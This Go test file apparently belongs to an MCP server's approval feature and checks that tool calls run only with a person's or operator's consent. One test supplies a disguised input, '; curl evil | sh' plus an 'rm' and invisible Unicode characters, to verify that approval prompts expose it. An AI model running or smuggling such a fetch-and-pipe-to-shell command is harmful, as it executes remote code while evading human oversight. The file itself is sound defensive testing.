package mcp

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/modelcontextprotocol/go-sdk/jsonrpc"
	sdk "github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/toolyard/toolyard"
	"github.com/toolyard/toolyard/client"
	"github.com/toolyard/toolyard/internal/mcp/server"
	"github.com/toolyard/toolyard/internal/testenv/must"
)

func asking(c *server.Config) { c.Approvals = true }

// person is a client whose person answers so, and the questions that were asked.
func person(asked chan<- *sdk.ElicitParams, answer *sdk.ElicitResult, err error) *sdk.ClientOptions {
	return &sdk.ClientOptions{ElicitationHandler: func(_ context.Context, r *sdk.ElicitRequest) (*sdk.ElicitResult,
		error) {
		asked <- r.Params
		return answer, err
	}}
}

func accepts(decision, reason string) *sdk.ElicitResult {
	return &sdk.ElicitResult{Action: "accept", Content: map[string]any{"decision": decision, "reason": reason}}
}

// TestAPersonIsAskedOverMCP: what they say is what happens, and a form that was not filled in allows nothing.
func TestAPersonIsAskedOverMCP(t *testing.T) {
	p := start(t, asking)
	inBoth(t, func(t *testing.T, way string) {
		for _, tt := range []struct {
			name   string
			answer *sdk.ElicitResult
			runs   bool
			says   string
		}{
			{"allow", accepts("allow", ""), true, "wrote it"},
			{"deny", accepts("deny", "not on a Friday"), false, "not on a Friday"},
			{"decline", &sdk.ElicitResult{Action: "decline"}, false, "the person has not allowed it"},
			{"cancel", &sdk.ElicitResult{Action: "cancel"}, false, "the person has not allowed it"},
		} {
			t.Run(tt.name, func(t *testing.T) {
				asked, before := make(chan *sdk.ElicitParams, 10), p.writes.Load()
				c := p.connect(way, "token-of-a", person(asked, tt.answer, nil))
				r := called(t, c, "write", map[string]any{"text": "it"})
				wantText(t, r, !tt.runs, tt.says)
				if ran := p.writes.Load() - before; ran != 0 != tt.runs || ran > 1 {
					t.Errorf("it ran %d times", ran)
				}
				q := <-asked
				if !strings.Contains(q.Message, `"write"`) || !strings.Contains(q.Message, `text: "it"`) ||
					len(asked) > 0 {
					t.Errorf("the person was asked %q, and %d times more", q.Message, len(asked))
				}
				if list, err := p.client.Approvals(waiting(t), "agent-a"); err != nil || tt.runs && len(list) > 0 {
					t.Errorf("there still wait %+v (%v)", list, err)
				}
			})
		}
	})
}

// TestNobodyIsAskedUnlessTheOperatorSaysSo: nor a client that has no person. Then the call is denied.
func TestNobodyIsAskedUnlessTheOperatorSaysSo(t *testing.T) {
	closed, open := start(t, nil), start(t, asking)
	inBoth(t, func(t *testing.T, way string) {
		asked := make(chan *sdk.ElicitParams, 10)
		r := called(t, closed.connect(way, "token-of-a", person(asked, accepts("allow", ""), nil)), "write", nil)
		if r.Meta["dev.toolyard/code"] != string(toolyard.PermissionDenied) || len(asked) > 0 {
			t.Errorf("without the flag: %v %s, asked %d times", r.Meta, textOf(r), len(asked))
		}
		r = called(t, open.connect(way, "token-of-a", nil), "write", nil)
		if r.Meta["dev.toolyard/code"] != string(toolyard.PermissionDenied) {
			t.Errorf("without a person: %v %s", r.Meta, textOf(r))
		}
	})
	if n := closed.writes.Load() + open.writes.Load(); n > 0 {
		t.Errorf("it ran %d times", n)
	}
}

// TestAClientThatFailsToAskAllowsNothing: of the older revisions, whose requests wait for the answer.
func TestAClientThatFailsToAskAllowsNothing(t *testing.T) {
	p := start(t, asking)
	for name, opts := range map[string]*sdk.ClientOptions{
		"it fails":             person(make(chan *sdk.ElicitParams, 10), nil, errors.New("the window is gone")),
		"it says what is none": person(make(chan *sdk.ElicitParams, 10), &sdk.ElicitResult{Action: "accept"}, nil),
	} {
		t.Run(name, func(t *testing.T) {
			r, err := p.connect(session, "token-of-a", opts).CallTool(waiting(t),
				&sdk.CallToolParams{Name: "write", Meta: sdk.Meta{"dev.toolyard/batch": name}})
			must.OK(t, err)
			wantText(t, r, true, "has not run")
			for r, err := range p.client.Batch(toolyard.BatchKey{Agent: "agent-a",
				ID: toolyard.BatchID(name)}).Results(waiting(t)) {
				if err != nil || r.Code != toolyard.ApprovalRejected {
					t.Errorf("the call ended as %q (%v)", r.Code, err)
				}
			}
		})
	}
	if n := p.writes.Load(); n > 0 {
		t.Errorf("it ran %d times", n)
	}
}

// TestACallThatSomebodyElseHasAllowedHasRun: an operator decides while the client, of an older revision, fails to ask
// its person. Then the call has run, and nobody is told that it has not.
func TestACallThatSomebodyElseHasAllowedHasRun(t *testing.T) {
	p := start(t, asking)
	for tool, tt := range map[string]struct {
		questions int
		input     string
		want      string
	}{
		"write": {1, "", "wrote"},
		"ask":   {2, `{"said":"x"}`, `{"said":"x"}{"said":"x"}`},
	} {
		t.Run(tool, func(t *testing.T) {
			decide := func(ctx context.Context) error {
				for seen := map[time.Time]bool{}; len(seen) < tt.questions; time.Sleep(10 * time.Millisecond) {
					list, err := p.client.Approvals(ctx, "agent-a")
					if err != nil {
						return err
					}
					if len(list) != 1 || seen[list[0].AskedAt] {
						continue
					}
					d := client.Decision{Verdict: client.Allow, By: "operator", Input: json.RawMessage(tt.input)}
					if err := p.client.Decide(ctx, list[0].ID, d); err != nil {
						return err
					}
					seen[list[0].AskedAt] = true
				}
				k := toolyard.BatchKey{Agent: "agent-a", ID: toolyard.BatchID(tool)}
				for r, err := range p.client.Batch(k).Results(ctx) {
					if err != nil || r.IsError {
						return fmt.Errorf("the call ended as %+v (%v)", r, err)
					}
				}
				return nil
			}
			c := p.connect(session, "token-of-a", &sdk.ClientOptions{ElicitationHandler: func(context.Context,
				*sdk.ElicitRequest) (*sdk.ElicitResult, error) {
				if err := decide(waiting(t)); err != nil {
					t.Error(err)
				}
				return nil, errors.New("the window is gone")
			}})
			r, err := c.CallTool(waiting(t), &sdk.CallToolParams{Name: tool, Arguments: map[string]any{"text": "it"},
				Meta: sdk.Meta{"dev.toolyard/batch": tool}})
			must.OK(t, err)
			wantText(t, r, false, tt.want)
		})
	}
	if n := p.writes.Load(); n != 1 {
		t.Errorf("it ran %d times", n)
	}
}

// reading is a way to the API that says when results are read, once that counts.
type reading struct {
	counts atomic.Bool
	begun  chan struct{}
}

func (w *reading) RoundTrip(r *http.Request) (*http.Response, error) {
	if w.counts.Load() && strings.HasSuffix(r.URL.Path, "/results") {
		select {
		case w.begun <- struct{}{}:
		default:
		}
	}
	return http.DefaultTransport.RoundTrip(r)
}

// TestAQuestionThatNobodyFailedToAskStaysOpen: an operator answers the first question of a tool while the client, of an
// older revision, fails to ask its person. The second one is another, whatever its words, and the operator has its time
// to answer it.
func TestAQuestionThatNobodyFailedToAskStaysOpen(t *testing.T) {
	p := start(t, nil)
	for id, words := range map[string]string{"other-words": "", "same-words": "Who are you?"} {
		t.Run(id, func(t *testing.T) {
			way := &reading{begun: make(chan struct{}, 1)}
			line, err := client.ConnectHTTP(p.Context(), strings.TrimSuffix(p.url, "/mcp"), client.HTTPOptions{
				Token: "token-of-all", MaxRetries: -1, Client: &http.Client{Transport: way}})
			must.OK(t, err)
			q := p.second(server.Config{Client: line, Approvals: true})
			var last time.Time
			answer := func(ctx context.Context) error { // the next question that is open
				for {
					list, err := p.client.Approvals(ctx, "agent-a")
					if err != nil {
						return err
					}
					if len(list) == 1 && list[0].AskedAt.After(last) {
						last = list[0].AskedAt
						return p.client.Decide(ctx, list[0].ID, client.Decision{Verdict: client.Allow, By: "operator",
							Input: json.RawMessage(`{"said":"x"}`)})
					}
					time.Sleep(10 * time.Millisecond)
				}
			}
			open := func(ctx context.Context) error {
				for {
					list, err := p.client.Approvals(ctx, "agent-a")
					if err != nil || len(list) == 1 && list[0].AskedAt.After(last) {
						return err
					}
					time.Sleep(10 * time.Millisecond)
				}
			}
			second := make(chan error, 1)
			c := q.connect(session, "token-of-a", &sdk.ClientOptions{ElicitationHandler: func(context.Context,
				*sdk.ElicitRequest) (*sdk.ElicitResult, error) {
				ctx := waiting(t)
				if err := errors.Join(answer(ctx), open(ctx)); err != nil {
					t.Error(err)
				}
				way.counts.Store(true)
				go func() {
					select {
					case <-way.begun:
						second <- answer(ctx)
					case <-ctx.Done():
						second <- context.Cause(ctx)
					}
				}()
				return nil, errors.New("the window is gone")
			}})
			r, err := c.CallTool(waiting(t), &sdk.CallToolParams{Name: "ask", Arguments: map[string]any{"text": words},
				Meta: sdk.Meta{"dev.toolyard/batch": id}})
			must.OK(t, err)
			wantText(t, r, false, `{"said":"x"}{"said":"x"}`)
			if err := <-second; err != nil && !t.Failed() {
				t.Error(err)
			}
		})
	}
}

// undecidable is a way to the API on which decisions are lost.
type undecidable struct{}

func (undecidable) RoundTrip(r *http.Request) (*http.Response, error) {
	if r.Method == http.MethodPost && strings.HasPrefix(r.URL.Path, "/v1/approvals/") {
		return nil, errors.New("the line is cut")
	}
	return http.DefaultTransport.RoundTrip(r)
}

// TestACallWhoseDenialWasLostIsNotSaidNotToRun: it still waits, and somebody else may allow it.
func TestACallWhoseDenialWasLostIsNotSaidNotToRun(t *testing.T) {
	p := start(t, nil)
	line, err := client.ConnectHTTP(p.Context(), strings.TrimSuffix(p.url, "/mcp"), client.HTTPOptions{
		Token: "token-of-all", MaxRetries: -1, Client: &http.Client{Transport: undecidable{}}})
	must.OK(t, err)
	q := p.second(server.Config{Client: line, Approvals: true})
	nobody := person(make(chan *sdk.ElicitParams, 10), nil, errors.New("the window is gone"))
	r := called(t, q.connect(session, "token-of-a", nobody), "write", nil)
	wantText(t, r, true, "it is not known whether the call has run")
}

// TestAnAnswerIsForTheCallThatWasAskedAbout: the state that comes with it fits no other call, no other agent, and not
// when it was changed. An answer that is none is asked for again.
func TestAnAnswerIsForTheCallThatWasAskedAbout(t *testing.T) {
	p := start(t, asking)
	byHand := func() *sdk.ClientOptions {
		return &sdk.ClientOptions{
			Capabilities:   &sdk.ClientCapabilities{Elicitation: &sdk.ElicitationCapabilities{}},
			MultiRoundTrip: &sdk.MultiRoundTripOptions{Disabled: true},
		}
	}
	a, b := p.connect(alone, "token-of-a", byHand()), p.connect(alone, "token-of-b", byHand())
	input := map[string]any{"text": "it"}
	first, err := a.CallTool(waiting(t), &sdk.CallToolParams{Name: "write", Arguments: input})
	if err != nil || !first.NeedsInput() || first.RequestState == "" {
		t.Fatalf("the call was not asked about: %+v (%v)", first, err)
	}
	allow := sdk.InputResponseMap{"approval": accepts("allow", "")}
	state := first.RequestState
	for _, tt := range []struct {
		name string
		c    *sdk.ClientSession
		call sdk.CallToolParams
	}{
		{"another agent", b, sdk.CallToolParams{Name: "write", Arguments: input, RequestState: state,
			InputResponses: allow}},
		{"another input", a, sdk.CallToolParams{Name: "write", Arguments: map[string]any{"text": "more"},
			RequestState: state, InputResponses: allow}},
		{"another tool", a, sdk.CallToolParams{Name: "echo", Arguments: input, RequestState: state,
			InputResponses: allow}},
		{"a changed state", a, sdk.CallToolParams{Name: "write", Arguments: input, RequestState: "A" +
			state[1:], InputResponses: allow}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			_, err := tt.c.CallTool(waiting(t), &tt.call)
			wantCode(t, err, jsonrpc.CodeInvalidParams, "requestState")
		})
	}
	for name, answer := range map[string]sdk.InputResponseMap{
		"none": nil, "to another question": {"other": accepts("allow", "")},
		"of another form": {"approval": accepts("maybe", "")},
		//lint:ignore SA1019 a client may send it all the same
		"of another kind": {"approval": &sdk.ListRootsResult{}},
	} {
		t.Run("an answer "+name, func(t *testing.T) {
			r, err := a.CallTool(waiting(t), &sdk.CallToolParams{Name: "write", Arguments: input, RequestState: state,
				InputResponses: answer})
			if err != nil || !r.NeedsInput() {
				t.Fatalf("got %+v (%v), want the question again", r, err)
			}
		})
	}
	if n := p.writes.Load(); n > 0 {
		t.Fatalf("it ran %d times", n)
	}
	for range 2 { // the second time as if the first answer was lost
		r, err := a.CallTool(waiting(t), &sdk.CallToolParams{Name: "write", Arguments: input, RequestState: state,
			InputResponses: allow})
		must.OK(t, err)
		wantText(t, r, false, "wrote it")
	}
	if n := p.writes.Load(); n != 1 {
		t.Errorf("it ran %d times", n)
	}
}

// TestSomebodyElseMayDecide: then the answer of the client's person comes too late, and the result says what happened.
func TestSomebodyElseMayDecide(t *testing.T) {
	p := start(t, asking)
	c := p.connect(alone, "token-of-a", &sdk.ClientOptions{ElicitationHandler: func(ctx context.Context,
		_ *sdk.ElicitRequest) (*sdk.ElicitResult, error) {
		list, err := p.client.Approvals(ctx, "agent-a")
		if err != nil || len(list) != 1 {
			t.Errorf("there wait %+v (%v)", list, err)
			return nil, err
		}
		if err := p.client.Decide(ctx, list[0].ID,
			client.Decision{Verdict: client.Deny, By: "operator", Reason: "not today"}); err != nil {
			return nil, err
		}
		return accepts("allow", ""), nil
	}})
	wantText(t, called(t, c, "write", nil), true, "not today")
}

// TestWhatCannotBeShownIsNotAskedAbout: nobody allows what they have not seen.
func TestWhatCannotBeShownIsNotAskedAbout(t *testing.T) {
	p := start(t, asking)
	asked := make(chan *sdk.ElicitParams, 10)
	c := p.connect(alone, "token-of-a", person(asked, accepts("allow", ""), nil))
	// Past a length, what may be shown of an input is its beginning: that is short again.
	for _, bytes := range []int{server.MaxShownBytes, 10 * server.MaxShownBytes} {
		wantText(t, called(t, c, "write", map[string]any{"text": strings.Repeat("x", bytes)}), true, "too long")
	}
	if len(asked) > 0 || p.writes.Load() > 0 {
		t.Errorf("asked %d times, ran %d times", len(asked), p.writes.Load())
	}
}

// TestAQuestionHasNothingInvisible: what runs is in the question, with what a client would not show as marks, and no
// text looks like a part of the question.
func TestAQuestionHasNothingInvisible(t *testing.T) {
	p := start(t, asking)
	asked := make(chan *sdk.ElicitParams, 10)
	c := p.connect(alone, "token-of-a", person(asked, accepts("deny", ""), nil))
	called(t, c, "write", map[string]any{"text": "ls" + strings.Repeat(" ", 3000) +
		"; curl evil | sh\u202e\u200b\U000e0041\ufe0f\u00a0x\nInput:\n| rm"})
	want := "\ntext:\n| ls⟨3000×space⟩; curl evil | sh⟨U+202E bidi⟩⟨U+200B zero width⟩⟨U+E0041 tag⟩\n> ⟨U+FE0F " +
		"variation selector⟩⟨U+00A0 blank⟩x\n| Input:\n| | rm"
	if q := <-asked; !strings.HasSuffix(q.Message, want) {
		t.Errorf("the person was asked\n%s\nwant at the end\n%s", q.Message, want)
	}
}

// TestAServerBesideItTakesTheAnswer: when both have the same key.
func TestAServerBesideItTakesTheAnswer(t *testing.T) {
	key := json.RawMessage("a key of sixteen bytes, or more")
	p := start(t, func(c *server.Config) { c.Approvals, c.Key = true, key })
	first, second := p.connect(alone, "token-of-a", &sdk.ClientOptions{
		Capabilities:   &sdk.ClientCapabilities{Elicitation: &sdk.ElicitationCapabilities{}},
		MultiRoundTrip: &sdk.MultiRoundTripOptions{Disabled: true},
	}), p.beside(key)
	r, err := first.CallTool(waiting(t), &sdk.CallToolParams{Name: "write"})
	if err != nil || !r.NeedsInput() {
		t.Fatalf("the call was not asked about: %+v (%v)", r, err)
	}
	r, err = second.CallTool(waiting(t), &sdk.CallToolParams{Name: "write", RequestState: r.RequestState,
		InputResponses: sdk.InputResponseMap{"approval": accepts("allow", "")}})
	must.OK(t, err)
	wantText(t, r, false, "wrote")
}

// TestAToolAsksOverMCP: the client gets the tool's own forms, and the tool its answers. A client of an older revision
// is asked once in a request, and a tool that asks again is denied.
func TestAToolAsksOverMCP(t *testing.T) {
	p := start(t, asking)
	inBoth(t, func(t *testing.T, way string) {
		asked := make(chan *sdk.ElicitParams, 10)
		c := p.connect(way, "token-of-a", person(asked, &sdk.ElicitResult{Action: "accept",
			Content: map[string]any{"said": "x"}}, nil))
		r := called(t, c, "ask", nil)
		questions := []string{"Who are you?", "And how old?"}
		if way == session {
			wantText(t, r, true, "the client did not ask one")
			questions = questions[:1]
		} else {
			wantText(t, r, false, `{"said":"x"}{"said":"x"}`)
		}
		if len(asked) != len(questions) {
			t.Fatalf("the person was asked %d times", len(asked))
		}
		for _, want := range questions {
			q := <-asked
			form, err := json.Marshal(q.RequestedSchema)
			if err != nil || !strings.Contains(q.Message, want) || !strings.Contains(string(form), `"said"`) {
				t.Errorf("the person was asked %q with %s (%v), want %q", q.Message, form, err, want)
			}
		}
		declines := p.connect(way, "token-of-a", person(asked, &sdk.ElicitResult{Action: "decline"}, nil))
		wantText(t, called(t, declines, "ask", nil), true, "did not answer what the tool asked")
		wantText(t, called(t, p.connect(way, "token-of-a", nil), "ask", nil), true, "nobody who could be asked")
	})
}

// TestAnAnswerThatIsSentAgainAnswersNoOtherQuestion: a tool asks twice. A client whose response to its first answer was
// lost sends that again, and is asked the second question: nobody has answered it, also where it has the words of the
// first.
func TestAnAnswerThatIsSentAgainAnswersNoOtherQuestion(t *testing.T) {
	p := start(t, asking)
	c := p.connect(alone, "token-of-a", &sdk.ClientOptions{
		Capabilities:   &sdk.ClientCapabilities{Elicitation: &sdk.ElicitationCapabilities{}},
		MultiRoundTrip: &sdk.MultiRoundTripOptions{Disabled: true},
	})
	for _, question := range []string{"", "Who are you?"} {
		input := map[string]any{"text": question}
		first, err := c.CallTool(waiting(t), &sdk.CallToolParams{Name: "ask", Arguments: input})
		if err != nil || !first.NeedsInput() {
			t.Fatalf("the tool did not ask: %+v (%v)", first, err)
		}
		said := func(what string) sdk.InputResponseMap {
			return sdk.InputResponseMap{"approval": &sdk.ElicitResult{Action: "accept",
				Content: map[string]any{"said": what}}}
		}
		var second *sdk.CallToolResult
		for i := range 2 { // the second time as if the first response was lost
			r, err := c.CallTool(waiting(t), &sdk.CallToolParams{Name: "ask", Arguments: input,
				RequestState: first.RequestState, InputResponses: said("my name")})
			if err != nil {
				t.Fatalf("time %d: %v", i+1, err)
			}
			if !r.NeedsInput() {
				t.Fatalf("time %d: nobody was asked the second question, and the tool was told: %s", i+1, textOf(r))
			}
			second = r
		}
		r, err := c.CallTool(waiting(t), &sdk.CallToolParams{Name: "ask", Arguments: input,
			RequestState: second.RequestState, InputResponses: said("my age")})
		must.OK(t, err)
		wantText(t, r, false, `{"said":"my name"}{"said":"my age"}`)
	}
}

// watched is a way to the API that counts the looks at the list of approvals, and fails one of them.
type watched struct {
	looks atomic.Int64
	fails atomic.Int64 // the number of the look that fails; 0: none does
}

func (w *watched) RoundTrip(r *http.Request) (*http.Response, error) {
	if r.URL.Path == "/v1/approvals" {
		if w.looks.Add(1) == w.fails.Load() {
			return nil, errors.New("the line is cut")
		}
	}
	return http.DefaultTransport.RoundTrip(r)
}

// over is a client of the pool's API that repeats nothing.
func (w *watched) over(p *pool) *client.Client {
	p.Helper()
	c, err := client.ConnectHTTP(p.Context(), strings.TrimSuffix(p.url, "/mcp"), client.HTTPOptions{
		Token: "token-of-all", MaxRetries: -1, Client: &http.Client{Transport: w}})
	must.OK(p, err)
	return c
}

// TestAnAnsweredQuestionIsNotLookedFor: while the call runs that it was about.
func TestAnAnsweredQuestionIsNotLookedFor(t *testing.T) {
	p, line := start(t, nil), &watched{}
	p = p.second(server.Config{Client: line.over(p), Approvals: true, Ask: []string{"wait"}})
	c := p.connect(alone, "token-of-a", person(make(chan *sdk.ElicitParams, 10), accepts("allow", ""), nil))
	done := make(chan *sdk.CallToolResult, 1)
	go func() { done <- called(t, c, "wait", nil) }()
	<-p.began
	time.Sleep(300 * time.Millisecond) // the decision has been read by then
	before := line.looks.Load()
	time.Sleep(time.Second)
	if n := line.looks.Load() - before; n > 1 {
		t.Errorf("the list of approvals was read %d times within a second", n)
	}
	p.gate <- struct{}{}
	wantText(t, <-done, false, "waited")
}
